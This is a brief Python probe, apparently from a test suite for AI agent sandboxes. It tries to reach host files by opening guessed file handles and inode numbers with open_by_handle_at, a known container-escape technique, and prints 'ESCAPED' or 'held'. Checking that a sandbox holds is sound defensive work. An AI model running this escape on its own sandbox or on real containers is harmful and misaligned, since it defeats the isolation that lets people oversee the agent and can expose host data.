"""Opens the host's files by handle or inode number instead of by path.

kind: escape
seconds: 10
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
done = []
for mount in ("/", "/etc/hosts", "/agentrl", "/home/agent"):
    try:
        base = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    handle = ctypes.create_string_buffer(struct.pack("=II", 128, 0) + bytes(128))
    number = ctypes.c_int()
    if libc.name_to_handle_at(-100, mount.encode(), handle, ctypes.byref(number), 0) == 0:
        if libc.open_by_handle_at(base, handle, 0) >= 0:
            done.append("own handle of " + mount)
    for inode in (2, 128, 256):
        for kind in (1, 2, 0x81):
            guess = ctypes.create_string_buffer(struct.pack("=IiII", 8, kind, inode, 0) + bytes(64))
            if libc.open_by_handle_at(base, guess, 0) >= 0:
                done.append(f"inode {inode} on {mount}")
print(f"ESCAPED: {done}" if done else "held: no handle opens")
